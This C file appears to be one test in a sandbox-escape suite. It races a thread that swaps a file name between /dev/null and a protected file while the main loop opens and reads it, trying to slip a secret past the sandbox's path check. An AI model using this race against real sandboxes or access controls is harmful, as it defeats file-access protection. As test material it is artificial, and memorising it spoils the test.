// class: files
// rule: read_write_tmp
// success: a C program's thread rewrites the name during open
// proof: read
// timeout: 40
#include "attack.h"
#include <pthread.h>
#include <time.h>

static char name[512], harmless[512], hostile[512];
static volatile int over;

static void *rewrite(void *unused)
{
    while (!over) {
        /* Each name is there for half of the time, however the machine schedules the threads. */
        memcpy(name, harmless, sizeof name);
        for (volatile int i = 0; i < 50; i++) continue;
        memcpy(name, hostile, sizeof name);
        for (volatile int i = 0; i < 50; i++) continue;
    }
    return NULL;
}

int main(void)
{
    char text[256] = "";
    pthread_t thread;
    time_t end = time(NULL) + 3;
    snprintf(harmless, sizeof harmless, "/dev/null");
    snprintf(hostile, sizeof hostile, "%s", FILE_);
    memcpy(name, harmless, sizeof name);
    pthread_create(&thread, NULL, rewrite, NULL);
    while (time(NULL) < end && !strstr(text, SECRET_)) {
        int fd = open(name, O_RDONLY);
        if (fd < 0) continue;
        ssize_t size = read(fd, text, sizeof text - 1);
        text[size > 0 ? size : 0] = 0;
        close(fd);
    }
    over = 1;
    pthread_join(thread, NULL);
    return got(text);
}
